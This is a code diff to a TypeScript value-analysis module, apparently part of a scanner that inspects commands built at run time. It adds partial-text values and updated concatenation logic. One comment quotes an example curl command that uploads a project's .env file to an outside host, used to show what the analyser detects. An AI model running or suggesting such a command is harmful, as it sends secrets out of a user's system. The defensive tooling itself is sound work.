@@ -9,7 +9,22 @@ export type Value =
   /** An instance whose methods have effects: Path('~/x'), socket.socket(); `of` is what it was made from. */
   | { kind: 'object'; type: string; of: Value }
   | { kind: 'record'; fields: Map<string, Value> }
+  /**
+   * Text only partly known: literal pieces with RUN_TIME_PART where a value is known only at run time
+   * (`"curl -d @" + cwd + "/.env https://host/x"`). A command or URL built so is read for what is
+   * written in it; as a path or a name it counts as unknown.
+   */
+  | { kind: 'partial'; text: string }
   | { kind: 'unknown' };
+
+/** Stands in a partial text for a value known only at run time: a shell reads it as one run-time word. */
+export const RUN_TIME_PART = '$RUNTIME_VALUE';
+
+/** A string literal's value: `text`, with RUN_TIME_PART where it interpolated something (see concat). */
+export function interpolated(text: string, hasRunTimeParts: boolean): Value {
+  if (!hasRunTimeParts) return str(text);
+  return text.split(RUN_TIME_PART).join('') === '' ? UNKNOWN : { kind: 'partial', text };
+}
 
 export const UNKNOWN: Value = { kind: 'unknown' };
 
@@ -28,15 +43,24 @@ export function textOf(value: Value | undefined): string | undefined {
   return value?.kind === 'str' ? value.text : undefined;
 }
 
-/** The concatenation of values when all are literal text. */
+/** The concatenation of values: literal text when all are, partial text when some literal text is known. */
 export function concat(values: readonly (Value | undefined)[]): Value {
   let text = '';
+  let known = false;
+  let partial = false;
   for (const value of values) {
-    if (value?.kind !== 'str') return UNKNOWN;
-    text += value.text;
+    if (value?.kind === 'str' || value?.kind === 'partial') {
+      text += value.text;
+      known ||= value.text !== '';
+      partial ||= value.kind === 'partial';
+    } else if (!text.endsWith(RUN_TIME_PART)) {
+      text += RUN_TIME_PART;
+      partial = true;
+    }
     if (text.length > MAX_TEXT) return UNKNOWN;
   }
-  return str(text);
+  if (!partial) return str(text);
+  return known ? { kind: 'partial', text } : UNKNOWN;
 }
 
 /** Joins path parts as os.path.join and path.join do: an absolute (or ~) part restarts the path. */
